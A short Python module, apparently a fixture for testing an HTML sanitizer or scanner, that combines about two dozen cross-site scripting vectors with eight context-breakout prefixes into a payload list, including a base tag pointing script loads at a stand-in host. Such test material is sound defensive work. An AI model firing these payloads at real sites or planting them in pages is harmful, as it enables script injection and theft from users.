"""What people write who want a page to run something: vectors, each in every surrounding that it may break out of."""

SCRIPT = "window.pwned=1;alert(1)"
VECTORS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    '<iframe srcdoc="<script>{}</script>"></iframe>', '<a href="javascript:{}">x</a>', "<details open ontoggle={}>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", '<object data="javascript:{}">',
    '<embed src="javascript:{}">', "<marquee onstart={}>", '<form action="javascript:{}"><button autofocus>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">', "<template><script>{}</script></template>",
    '{{{{constructor.constructor("{}")()}}}}', "${{{}}}", "javascript:{}", "data:text/html,<script>{}</script>",
    '<div hx-get="/" hx-trigger="load" hx-on::load="{}">', '<style>@import "javascript:{}"</style>',
    '<xss style="animation-name:x" onanimationstart="{}">', "<math><mtext></table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror={}&gt;">', '<base href="//evil.test/"><script src="x.js">{}</script>',
)  # fmt: skip
SURROUNDINGS = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "--><!-- >{}", '\\"]}};{}//')
PAYLOADS = tuple(around.format(vector.format(SCRIPT)) for vector in VECTORS for around in SURROUNDINGS)
